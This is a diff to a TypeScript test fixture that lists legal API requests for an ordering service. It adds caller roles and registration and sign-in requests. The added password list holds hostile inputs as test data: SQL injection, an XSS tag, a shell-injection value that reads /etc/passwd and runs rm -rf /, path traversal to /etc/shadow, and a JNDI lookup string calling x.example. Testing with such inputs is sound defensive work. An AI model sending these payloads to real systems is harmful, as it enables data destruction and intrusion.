@@ -1,3 +1,4 @@
+import type { Role } from '#contracts/access-token.ts';
 import type { Sent } from './client.ts';
 
 /** A request that a client may send, with what the producer answers. */
@@ -5,6 +6,8 @@ export interface LegalRequest {
   readonly name: string;
   readonly sent: Sent;
   readonly status: number;
+  /** Who sends it; nobody who is signed in unless told. */
+  readonly who?: readonly [subject: string, role: Role];
 }
 
 /** What people write as the reason of a cancellation or rejection: free text in any language. */
@@ -64,7 +67,7 @@ let sequence = 0;
 
 function order(
   name: string,
-  changes: object = {},
+  changes: { readonly customerId?: string } & Readonly<Record<string, unknown>> = {},
   headers: Readonly<Record<string, string>> = {},
 ): LegalRequest {
   sequence += 1;
@@ -77,6 +80,7 @@ function order(
       headers: { ...json, ...key, ...headers },
       body: body({ customerId: 'ada', items: [line], ...changes }),
     },
+    who: [changes.customerId ?? 'ada', 'customer'],
     status: 202,
   };
 }
@@ -84,6 +88,24 @@ function order(
 const get = (path: string, status = 200, headers: Readonly<Record<string, string>> = {}): LegalRequest => ({
   name: `GET ${path} ${body(headers)}`,
   sent: { path, headers },
+  who: ['the-operator', 'operator'],
+  status,
+});
+
+/** Whatever people take for a password. */
+const passwords = [
+  'correct horse battery staple',
+  "' OR '1'='1' -- ",
+  '<script>alert(1)</script>',
+  '$(cat /etc/passwd); rm -rf /',
+  '../../../../etc/shadow',
+  'Пароль-из-многих-букв',
+  '%{jndi:ldap://x.example/a}',
+  'union select password from users',
+];
+const identity = (name: string, path: string, sent: object, status: number): LegalRequest => ({
+  name,
+  sent: { method: 'POST', path: `/v1/identity/${path}`, headers: json, body: body(sent) },
   status,
 });
 
@@ -172,7 +194,7 @@ export const legalRequests: readonly LegalRequest[] = [
       headers: {
         origin: 'http://localhost:8080',
         'access-control-request-method': 'POST',
-        'access-control-request-headers': 'content-type,idempotency-key,traceparent',
+        'access-control-request-headers': 'authorization,content-type,idempotency-key,traceparent',
       },
     },
     status: 204,
@@ -210,6 +232,7 @@ export const legalRequests: readonly LegalRequest[] = [
     {
       name: `a cancellation: ${reason}`,
       sent: { method: 'DELETE', path: `/v1/orders/${orderId}?reason=${encodeURIComponent(reason)}` },
+      who: ['ada', 'customer'],
       status: 404,
     },
     {
@@ -220,7 +243,20 @@ export const legalRequests: readonly LegalRequest[] = [
         headers: json,
         body: body({ action: 'reject', reason }),
       },
+      who: ['the-barista', 'barista'],
       status: 404,
     },
   ]),
+
+  ...passwords.flatMap((password): LegalRequest[] => [
+    identity(
+      `registering with the password ${password}`,
+      'accounts',
+      { username: 'ada@example.com', password },
+      202,
+    ),
+    identity(`signing in with the password ${password}`, 'tokens', { username: 'nobody', password }, 401),
+  ]),
+  identity('refreshing', 'tokens/refresh', { refreshToken: '-_aZ09'.repeat(7).concat('x') }, 401),
+  identity('signing out', 'tokens/revoke', { refreshToken: '-_aZ09'.repeat(7).concat('x') }, 204),
 ];
